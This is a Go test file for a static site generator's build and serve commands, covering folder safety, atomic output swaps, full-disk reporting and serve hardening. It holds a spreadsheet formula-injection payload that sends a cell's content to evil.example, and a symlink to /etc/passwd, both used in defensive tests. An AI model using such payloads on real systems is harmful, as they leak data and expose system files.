package main

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
)

// The cases of issue 8 that are not a failing build (those are in the
// bad-input suite): each checks from the command line what the issue found
// on main.

// 8.2: --out replaces only an empty folder or folio's own output.
func TestOutNeverEmptiesAForeignFolder(t *testing.T) {
	src := newSite(t, badBase, "")
	d := filepath.Join(t.TempDir(), "d")
	writeFile(t, filepath.Join(d, "thesis.txt"), "four years of work")
	code, _, stderr := folio(t, "build", "--src", src, "--out", d)
	if code != exitFailed {
		t.Fatalf("exit %d, want %d; stderr:\n%s", code, exitFailed, stderr)
	}
	for _, want := range []string{"output folder " + d, "thesis.txt", "choose another --out"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("stderr lacks %q:\n%s", want, stderr)
		}
	}
	if got := readFile(t, filepath.Join(d, "thesis.txt")); got != "four years of work" {
		t.Errorf("thesis.txt = %q", got)
	}
	// An empty folder is fine, and then so is the next build into it; a
	// file added to it afterwards makes it someone's again.
	empty := filepath.Join(t.TempDir(), "empty")
	os.Mkdir(empty, 0o755)
	for i := range 2 {
		if code, _, stderr := folio(t, "build", "--src", src, "--out", empty); code != 0 {
			t.Fatalf("build %d into an empty folder: exit %d\n%s", i+1, code, stderr)
		}
	}
	writeFile(t, filepath.Join(empty, "notes.txt"), "mine")
	if code, _, stderr := folio(t, "build", "--src", src, "--out", empty); code != exitFailed || !strings.Contains(stderr, "notes.txt, which folio did not write") {
		t.Errorf("build over an added file: exit %d\n%s", code, stderr)
	}
	if got := readFile(t, filepath.Join(empty, "notes.txt")); got != "mine" {
		t.Errorf("notes.txt = %q", got)
	}
}

// 8.4: the snippets CSV cannot run formulas; JSON stays exact.
func TestSnippetsCSVRunsNoFormula(t *testing.T) {
	evil := `=HYPERLINK("https://evil.example/?x="&A1,"Click")`
	src := newSite(t, map[string]string{
		"content/site.yaml":     badBase["content/site.yaml"],
		"content/articles/a.md": badArticle("title: '"+evil+"'\ndate: 2025-01-01\nlinkedin:\n  hook: \"@everyone look\"", "-1 is a start.\n"),
	}, "")
	code, out, stderr := folio(t, "snippets", "--src", src, "--format", "csv")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, cell := range rows[1] {
		if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("column %s is a formula: %q", rows[0][i], cell)
		}
	}
	if rows[1][2] != "'"+evil {
		t.Errorf("title cell = %q, want it with a leading quote", rows[1][2])
	}
	code, out, _ = folio(t, "snippets", "--src", src, "--format", "json")
	var recs []struct{ Title, Hook string }
	if err := json.Unmarshal([]byte(out), &recs); code != 0 || err != nil || len(recs) != 1 || recs[0].Title != evil {
		t.Errorf("json: exit %d, %v, %+v", code, err, recs)
	}
}

// 8.8: killed builds leave staging and old output folders; the next build
// removes those that are folio's, and only those.
func TestStaleStagingFoldersGo(t *testing.T) {
	src := newSite(t, badBase, "")
	if code, _, stderr := folio(t, "build", "--src", src); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	killedWhileWriting := filepath.Join(src, ".public-new-1111")
	writeFile(t, filepath.Join(killedWhileWriting, ".folio-manifest"), "folio staging 1\n")
	writeFile(t, filepath.Join(killedWhileWriting, "articles/a/index.html"), "half a build")
	killedWhileRemoving := filepath.Join(src, ".public-old-2222")
	writeFile(t, filepath.Join(killedWhileRemoving, ".folio-manifest"), "folio output 1\nindex.html\n")
	writeFile(t, filepath.Join(killedWhileRemoving, "index.html"), "an old output")
	notFolios := filepath.Join(src, ".public-new-mine")
	writeFile(t, filepath.Join(notFolios, "mine.txt"), "mine")
	if code, _, stderr := folio(t, "build", "--src", src); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	for _, gone := range []string{killedWhileWriting, killedWhileRemoving} {
		if _, err := os.Stat(gone); !os.IsNotExist(err) {
			t.Errorf("%s is still there", filepath.Base(gone))
		}
	}
	if got := readFile(t, filepath.Join(notFolios, "mine.txt")); got != "mine" {
		t.Errorf("a folder folio did not make was touched")
	}
}

// 8.8: the output folder is swapped in one step: a reader never finds it
// missing while builds replace it.
func TestOutputNeverMissingDuringSwap(t *testing.T) {
	src := newSite(t, badBase, "")
	public := filepath.Join(src, "public")
	if code, _, stderr := folio(t, "build", "--src", src); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	var missing, looks atomic.Int64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			if _, err := os.Lstat(filepath.Join(public, "index.html")); err != nil {
				missing.Add(1)
			}
			looks.Add(1)
			runtime.Gosched()
		}
	}()
	for i := range 15 {
		// A change each time, so every build writes and swaps.
		writeFile(t, filepath.Join(src, "content/about.md"), "---\ntitle: About\n---\nVersion "+strconv.Itoa(i)+".\n")
		if code, _, stderr := folio(t, "build", "--src", src); code != 0 {
			close(stop)
			t.Fatalf("exit %d: %s", code, stderr)
		}
	}
	close(stop)
	wg.Wait()
	if missing.Load() > 0 {
		t.Errorf("public/index.html was missing %d times in %d looks during 15 swaps", missing.Load(), looks.Load())
	}
}

// 8.9: a zero-width character cannot make a look-alike topic.
func TestZeroWidthTopicIsTheSameTopic(t *testing.T) {
	src := newSite(t, map[string]string{
		"content/site.yaml":     badBase["content/site.yaml"],
		"content/articles/a.md": badArticle("title: A\ndate: 2025-01-01\ntopics: [Trust]", "A.\n"),
		"content/articles/b.md": badArticle("title: B\ndate: 2025-02-01\ntopics: [\"Tr\u200bust\", \"\u202eTrust\"]", "B.\n"),
	}, "")
	if code, _, stderr := folio(t, "build", "--src", src); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	topics, err := os.ReadDir(filepath.Join(src, "public", "topics"))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range topics {
		if e.IsDir() {
			names = append(names, e.Name())
		}
	}
	if strings.Join(names, " ") != "trust" {
		t.Errorf("topic folders = %q, want only trust", names)
	}
	page := readFile(t, filepath.Join(src, "public", "topics", "trust", "index.html"))
	if !strings.Contains(page, "/articles/a/") || !strings.Contains(page, "/articles/b/") || strings.ContainsAny(page, "\u200b\u202e") {
		t.Errorf("the topic page does not list both articles, or keeps an invisible character")
	}
}

// 8.10: a full disk is one line, not one per file. The build runs in a
// child process whose files may not grow past 4 KB (RLIMIT_FSIZE): every
// larger write fails with EFBIG, as every write fails with ENOSPC on a full
// disk.
func TestFullDiskIsOneLine(t *testing.T) {
	if os.Getenv("FOLIO_TEST_DISK_FULL") != "" {
		signal.Ignore(syscall.SIGXFSZ) // the write fails instead of killing us
		limit := syscall.Rlimit{Cur: 4 << 10, Max: 4 << 10}
		if err := syscall.Setrlimit(syscall.RLIMIT_FSIZE, &limit); err != nil {
			t.Fatal(err)
		}
		code, _, stderr := folio(t, "build", "--src", os.Getenv("FOLIO_TEST_DISK_FULL"))
		os.Stderr.WriteString(stderr)
		os.Exit(code)
	}
	src := newSite(t, badBase, "")
	for i := range 30 {
		writeFile(t, filepath.Join(src, "content", "articles", "n"+strconv.Itoa(i)+".md"), badArticle("title: Note "+strconv.Itoa(i)+"\ndate: 2025-03-01", strings.Repeat("A longer body. ", 400)+"\n"))
	}
	cmd := exec.Command(os.Args[0], "-test.run=^TestFullDiskIsOneLine$")
	cmd.Env = append(os.Environ(), "FOLIO_TEST_DISK_FULL="+src)
	out, err := cmd.CombinedOutput()
	exit, ok := err.(*exec.ExitError)
	if !ok || exit.ExitCode() != exitFailed {
		t.Fatalf("child: %v, want exit %d\n%s", err, exitFailed, out)
	}
	var errorLines []string
	for _, l := range strings.Split(string(out), "\n") {
		if strings.HasPrefix(l, "error: ") {
			errorLines = append(errorLines, l)
		}
	}
	if len(errorLines) != 1 || !strings.Contains(errorLines[0], "file too large") || !strings.Contains(errorLines[0], "more files, for the same reason)") {
		t.Errorf("%d error lines, want 1 naming the cause and the count:\n%s", len(errorLines), out)
	}
	if left, _ := filepath.Glob(filepath.Join(src, ".public-*")); len(left) > 0 {
		t.Errorf("left behind: %v", left)
	}
}

// 8.1, 8.3, 8.11: serve never publishes a file from outside the site,
// survives a template that recurses, applies the aliases and keeps the
// feeds' Content-Type.
func TestServeSafety(t *testing.T) {
	files := map[string]string{
		"content/site.yaml":     badBase["content/site.yaml"],
		"content/articles/a.md": badArticle("title: Article A\ndate: 2025-01-01\naliases: [/2019/05/old-a/]", "Intro of A.\n"),
	}
	src := newSite(t, files, "")
	p := startServe(t, src)
	events := p.openEvents(t)

	t.Run("aliases redirect", func(t *testing.T) {
		resp, _ := p.get(t, "/2019/05/old-a/")
		if resp.StatusCode != http.StatusMovedPermanently || resp.Header.Get("Location") != "/articles/a/" {
			t.Errorf("GET /2019/05/old-a/: %s, Location %q", resp.Status, resp.Header.Get("Location"))
		}
	})
	t.Run("feeds keep netlify.toml's Content-Type", func(t *testing.T) {
		resp, _ := p.get(t, "/feed.xml")
		if got := resp.Header.Get("Content-Type"); got != "application/atom+xml; charset=utf-8" {
			t.Errorf("/feed.xml Content-Type = %q", got)
		}
		resp, _ = p.get(t, "/feeds/linkedin.xml")
		if got := resp.Header.Get("Content-Type"); got != "application/rss+xml; charset=utf-8" {
			t.Errorf("/feeds/linkedin.xml Content-Type = %q", got)
		}
	})
	t.Run("a link to a file outside is an error, never served", func(t *testing.T) {
		events.drain()
		symlink(t, "/etc/passwd", src, "static/x.txt")
		e, ok := events.next(waitGuard, func(e event) bool { return e.Error != "" })
		if !ok || !strings.Contains(e.Error, "static/x.txt") || !strings.Contains(e.Error, "outside the site folder") {
			t.Fatalf("no error event naming static/x.txt: %+v\n%s", e, p.stdout)
		}
		if resp, body := p.get(t, "/x.txt"); resp.StatusCode != http.StatusNotFound || strings.Contains(body, "root:") {
			t.Errorf("GET /x.txt: %s", resp.Status)
		}
		events.drain()
		os.Remove(filepath.Join(src, "static", "x.txt"))
		if _, ok := events.next(waitGuard, func(e event) bool { return e.Changed != nil }); !ok {
			t.Fatalf("no recovery after the link went\n%s", p.stdout)
		}
	})
	t.Run("a recursive partial is an error, and serve goes on", func(t *testing.T) {
		events.drain()
		breadcrumbs := filepath.Join(src, "layouts", "partials", "breadcrumbs.html")
		good := readFile(t, breadcrumbs)
		saveAtomic(t, breadcrumbs, "{{ partial \"partials/breadcrumbs.html\" . }}")
		e, ok := events.next(waitGuard, func(e event) bool { return e.Error != "" })
		if !ok || !strings.Contains(e.Error, "layouts/partials/breadcrumbs.html:1: template calls nest more than 100 deep") {
			t.Fatalf("no error event for the recursion: %+v\n%s", e, p.stdout)
		}
		if resp, _ := p.get(t, "/articles/a/"); resp.StatusCode != http.StatusOK {
			t.Errorf("the last good site is not served: %s", resp.Status)
		}
		events.drain()
		saveAtomic(t, breadcrumbs, good)
		if _, ok := events.next(waitGuard, func(e event) bool { return e.Changed != nil }); !ok {
			t.Fatalf("no recovery after the fix\n%s", p.stdout)
		}
	})
}

// 8.11: serve notices a change of permissions: chmod 000 on a watched file
// shows an error, chmod 644 recovers. Root reads any file whatever its mode,
// so as root the test runs itself again as an unprivileged user.
func TestServeNoticesPermissionChanges(t *testing.T) {
	if os.Getenv("FOLIO_TEST_UNPRIVILEGED") == "" && os.Geteuid() == 0 {
		runUnprivileged(t, "^TestServeNoticesPermissionChanges$")
		return
	}
	files := map[string]string{
		"content/site.yaml":     badBase["content/site.yaml"],
		"content/articles/a.md": badArticle("title: Article A\ndate: 2025-01-01", "Intro of A.\n"),
	}
	src := newSite(t, files, "")
	p := startServe(t, src)
	events := p.openEvents(t)
	article := filepath.Join(src, "content", "articles", "a.md")
	if err := os.Chmod(article, 0); err != nil {
		t.Fatal(err)
	}
	e, ok := events.next(waitGuard, func(e event) bool { return e.Error != "" })
	if !ok || !strings.Contains(e.Error, "content/articles/a.md") || !strings.Contains(e.Error, "permission denied") {
		t.Fatalf("no error event for the unreadable file: %+v\n%s", e, p.stdout)
	}
	events.drain()
	if err := os.Chmod(article, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, ok := events.next(waitGuard, func(e event) bool { return e.Changed != nil }); !ok {
		t.Fatalf("no recovery once the file can be read\n%s", p.stdout)
	}
}

// runUnprivileged runs the test binary again, as the user nobody, for the
// tests matching pattern, and fails when they fail. The binary and a
// temporary folder are copied where nobody can reach them.
func runUnprivileged(t *testing.T, pattern string) {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	home, err := os.MkdirTemp("", "folio-unprivileged-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(home) })
	os.Chmod(home, 0o777)
	bin := filepath.Join(home, "folio.test")
	data, err := os.ReadFile(exe)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bin, data, 0o755); err != nil {
		t.Fatal(err)
	}
	repo, err := filepath.Abs(repoRoot)
	if err != nil {
		t.Fatal(err)
	}
	// The tests read the project's layouts and static files (repoRoot):
	// run from a copy of them, since nobody may not reach the checkout.
	work := filepath.Join(home, "cmd", "folio")
	for _, dir := range []string{"layouts", "static"} {
		copyTree(t, filepath.Join(repo, dir), filepath.Join(home, dir))
	}
	writeFile(t, filepath.Join(home, "netlify.toml"), readFile(t, filepath.Join(repo, "netlify.toml")))
	if err := os.MkdirAll(work, 0o777); err != nil {
		t.Fatal(err)
	}
	tmp := filepath.Join(home, "tmp")
	os.Mkdir(tmp, 0o777)
	filepath.Walk(home, func(p string, info os.FileInfo, err error) error {
		if err == nil {
			os.Chown(p, 65534, 65534)
		}
		return nil
	})
	cmd := exec.Command(bin, "-test.run="+pattern, "-test.v")
	cmd.Dir = work
	cmd.Env = append(os.Environ(), "FOLIO_TEST_UNPRIVILEGED=1", "TMPDIR="+tmp, "HOME="+home, "GOCOVERDIR=")
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	out, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "--- PASS") {
		t.Fatalf("as nobody: %v\n%s", err, out)
	}
}

// 8.5, updating the output in place: a published card is a hard link to a
// cache entry, so writing to it (as root can, read-only or not) damages
// both. The next `folio build` over the same folder must find the entry
// damaged, make it again and publish it again, not keep the broken file
// because the card's inputs did not change.
func TestDamagedPublishedCardIsPublishedAgain(t *testing.T) {
	files := map[string]string{}
	for p, text := range badBase {
		files[p] = text
	}
	files["content/site.yaml"] = strings.Replace(badBase["content/site.yaml"], "share_cards: false\n", "", 1)
	src := newSite(t, files, "")
	if code, _, stderr := folio(t, "build", "--src", src); code != 0 {
		t.Fatalf("first build: exit %d\n%s", code, stderr)
	}
	cards, _ := filepath.Glob(filepath.Join(src, "public", "articles", "*", "card.png"))
	if len(cards) == 0 {
		t.Fatal("the first build published no card")
	}
	card := cards[0]
	want := readFile(t, card)
	if err := os.Chmod(card, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(card, nil, 0o644); err != nil { // : > public/articles/x/card.png
		t.Fatal(err)
	}
	if code, _, stderr := folio(t, "build", "--src", src); code != 0 {
		t.Fatalf("second build: exit %d\n%s", code, stderr)
	}
	if got := readFile(t, card); got != want {
		t.Errorf("after truncating a published card, the next build leaves %d bytes, want %d", len(got), len(want))
	}
}
